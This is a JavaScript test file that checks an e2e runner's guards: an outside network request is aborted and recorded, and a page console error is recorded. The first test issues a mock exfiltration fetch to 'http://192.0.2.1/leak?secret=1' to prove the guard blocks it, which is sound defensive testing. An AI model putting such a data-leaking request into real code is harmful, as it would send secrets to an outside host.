/**
 * Self-checks of the e2e runner's guards, so a green dashboard run means something: a request to
 * another host is aborted and recorded, and a console error is recorded.
 * Each test takes the problems it provoked out of the record (consumeProblems); anything else the
 * browser reports still fails the test.
 */
export const tests = [
  {
    name: 'runner guard: a request to a host other than the preview server is aborted and recorded',
    async run({ page, baseUrl, helpers }) {
      const { assert } = helpers;
      // about:blank has no CSP, so the request reaches the router (the app's own CSP would stop it first).
      await page.goto('about:blank');
      const outcome = await page.evaluate(async () => {
        try {
          await fetch('http://192.0.2.1/leak?secret=1', { mode: 'no-cors' });
          return 'completed';
        } catch {
          return 'failed';
        }
      });
      assert.equal(outcome, 'failed', 'the outside request must not complete');
      const recorded = helpers.consumeProblems(
        /request outside the preview server: GET http:\/\/192\.0\.2\.1\//,
      );
      assert.equal(recorded.length, 1, 'the outside request is recorded exactly once');
      // Chromium also logs the blocked load as a console error; that is the expected echo of the same event.
      helpers.consumeProblems(
        /console error: .*ERR_BLOCKED_BY_CLIENT|console error: Failed to load resource/,
      );

      // The preview server itself stays reachable through the same router.
      const res = await page.goto(baseUrl);
      assert.equal(res?.status(), 200);
    },
  },
  {
    name: 'runner guard: a console error in the page is recorded',
    async run({ page, baseUrl, helpers }) {
      const { assert } = helpers;
      await page.goto(baseUrl);
      await page.evaluate(() => console.error('e2e-runner-self-check'));
      await helpers.eventually(() => {
        const recorded = helpers.consumeProblems(/console error: e2e-runner-self-check/);
        assert.equal(recorded.length, 1);
      });
    },
  },
];
